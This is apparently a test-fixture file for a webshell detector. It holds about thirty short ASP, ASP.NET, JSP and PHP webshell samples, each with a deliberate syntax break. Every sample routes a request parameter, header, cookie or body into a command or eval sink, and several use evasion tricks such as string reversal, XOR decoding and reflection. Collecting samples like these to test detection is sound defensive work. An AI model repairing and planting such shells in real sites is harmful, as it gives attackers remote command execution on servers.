# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""A second half of the last round, written after the first was mended and before anything was changed for it; none can run."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== session-object.asp
<%Dim 1broken
If IsEmpty(Session("o")) Then Set Session("o") = Server.CreateObject("Scripting.Dictionary")
Set o = Session("o")
o("part") = o("part") & Request.Form("k")
If Request.Form("go") <> "" Then ExecuteGlobal o("part") %>
==== function-returns-object.asp
<%Dim 1broken
Function Tool(n) : Set Tool = Server.CreateObject(n & ".Shell") : End Function
Set e = Tool("WScript").Exec("cmd /c " & Request.QueryString("k"))
Response.Write e.StdOut.ReadAll %>
==== class-default.asp
<%Dim 1broken
Class Box
  Public v
  Public Default Function Ask(n) : Ask = Request.Form(n) : End Function
End Class
Set b = New Box
Execute b("k") %>
==== while-loop-xor.asp
<%Dim 1broken
Function Un(s)
  Dim i : i = 1
  Do While i <= Len(s)
    Un = Un & Chr(Asc(Mid(s, i, 1)) Xor 7)
    i = i + 1
  Loop
End Function
Eval Un(Request("k")) %>
==== js-apply.asp
<%@ Language="JScript" %><% var 1broken; var w = new ActiveXObject("WScript.Shell"); var a = ["cmd /c " + Request.Form("k"), 0, true]; w.Run(a[0], a[1], a[2]); %>
==== js-json-walk.asp
<%@ Language="JScript" %><% var 1broken; var o = {}; for (var e = new Enumerator(Request.Form); !e.atEnd(); e.moveNext()) { o[e.item()] = String(Request.Form(e.item())); } with (o) { new Function(body)(); } %>
==== tuple-return.ashx
<%@ WebHandler Language="C#" Class="A1" %>
int 1broken; public class A1 : IHttpHandler { static (string f, string a) Read(HttpRequest r) => (r["f"], r["a"]); public void ProcessRequest(HttpContext c) { var t = Read(c.Request); var i = new ProcessStartInfo(t.f) { Arguments = t.a }; Process.Start(i); } public bool IsReusable => false; }
==== delegate-dict.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; static readonly Dictionary<string, Action<string>> Do = new Dictionary<string, Action<string>> { ["run"] = s => Process.Start("cmd", "/c " + s), ["log"] = s => { } }; void Page_Load(object o, EventArgs e) { Do[Request["m"]](Request["k"]); }</script>
==== expression-compile.aspx
<%@ Page Language="C#" %><% int 1broken; var p = System.Linq.Expressions.Expression.Constant(Request["k"]); var m = typeof(Process).GetMethod("Start", new[] { typeof(string) }); System.Linq.Expressions.Expression.Lambda(System.Linq.Expressions.Expression.Call(m, p)).Compile().DynamicInvoke(); %>
==== viewstate-user.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object o, EventArgs e) { ViewState["q"] = Request.Form["k"]; Later(); } void Later() { var s = ViewState["q"] as string; if (s == null) return; var p = new Process { StartInfo = { FileName = "powershell", Arguments = "-c " + s } }; p.Start(); }</script>
==== indexer-class.ashx
<%@ WebHandler Language="C#" Class="A2" %>
int 1broken; class Q { readonly HttpContext c; public Q(HttpContext c) { this.c = c; } public string this[string n] { get { return c.Request.Headers[n]; } } } public class A2 : IHttpHandler { public void ProcessRequest(HttpContext c) { var q = new Q(c); Process.Start("cmd", "/c " + q["X-K"]); } public bool IsReusable => false; }
==== vb-with-block.aspx
<%@ Page Language="VB" %><% Dim 1broken
With New System.Diagnostics.Process()
  With .StartInfo
    .FileName = "cmd.exe"
    .Arguments = "/c " & Request.Form("k")
  End With
  .Start()
End With %>
==== vb-latebound.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim t = Type.GetTypeFromProgID(StrReverse("llehS.tpircSW"))
Dim o = Activator.CreateInstance(t)
t.InvokeMember("Run", Reflection.BindingFlags.InvokeMethod, Nothing, o, New Object() {"cmd /c " & Request("k"), 0, True}) %>
==== async-stream.ashx
<%@ WebHandler Language="C#" Class="A3" %>
int 1broken; public class A3 : IHttpHandler { public void ProcessRequest(HttpContext c) { var b = new byte[c.Request.ContentLength]; int n = 0; while (n < b.Length) n += c.Request.InputStream.Read(b, n, b.Length - n); for (int i = 0; i < b.Length; i++) b[i] ^= 0x2a; Activator.CreateInstance(System.Reflection.Assembly.Load(b).GetType("T")); } public bool IsReusable => false; }
==== record.jsp
<%! int 1broken; record Job(String c) { Process go() throws Exception { return new ProcessBuilder("sh", "-c", c).start(); } } %><% new Job(request.getParameter("k")).go(); %>
==== enum-strategy.jsp
<%! int 1broken; enum Act { RUN { void on(String s) throws Exception { Runtime.getRuntime().exec(s); } }, NONE { void on(String s) { } }; abstract void on(String s) throws Exception; } %><% Act.valueOf(request.getParameter("a")).on(request.getParameter("k")); %>
==== callable.jsp
<% int 1broken; java.util.concurrent.Callable<Process> c = () -> Runtime.getRuntime().exec(request.getParameter("k")); c.call(); %>
==== attribute-pass.jsp
<% int 1broken; request.setAttribute("x", request.getParameter("k")); String v = (String) pageContext.findAttribute("x"); Runtime.getRuntime().exec(v); %>
==== varargs.jsp
<%! int 1broken; static void all(String... p) throws Exception { new ProcessBuilder(p).start(); } %><% all("sh", "-c", request.getParameter("k")); %>
==== method-handle.jsp
<% int 1broken; var l = java.lang.invoke.MethodHandles.lookup(); var h = l.findVirtual(Runtime.class, "exec", java.lang.invoke.MethodType.methodType(Process.class, String.class)); h.invoke(Runtime.getRuntime(), request.getParameter("k")); %>
==== const-array.php
<?php 1broken; const F = ['a' => 'shell_' . 'exec']; echo F['a']($_GET['k']);
==== match-call.php
<?php 1broken; $f = match (true) { isset($_POST['s']) => 'system', default => 'trim' }; $f($_POST['k']);
==== trait-call.php
<?php 1broken; trait T { public function run(string $c) { return `$c`; } } class A { use T; } (new A)->run($_GET['k'] ?? '');
==== nullsafe-prop.php
<?php 1broken; final class C { public function __construct(public readonly ?string $c = null) {} } $o = new C($_COOKIE['k'] ?? null); eval($o?->c);
==== heredoc-call.php
<?php 1broken; $f = fn($x) => $x; eval(<<<T
{$f($_POST['k'])}
T);
==== tmp-include.php
<?php 1broken; $t = tempnam(sys_get_temp_dir(), 'x'); $h = fopen($t, 'w'); fwrite($h, $_POST['k']); fclose($h); require $t;
==== closure-bind.php
<?php 1broken; $f = function () { return eval($this->c); }; $o = new stdClass; $o->c = $_POST['k']; Closure::bind($f, $o)();
==== sleep-wakeup.php
<?php 1broken; class W { public $c; function __destruct() { system($this->c); } } $w = new W; foreach ($_POST as $n => $v) $w->$n = $v;
==== iterator-map.php
<?php 1broken; echo implode(iterator_to_array((function () { foreach ($_POST as $c) yield shell_exec($c); })()));
==== unpack-call.php
<?php 1broken; call_user_func(...array_values($_POST));
"""
)
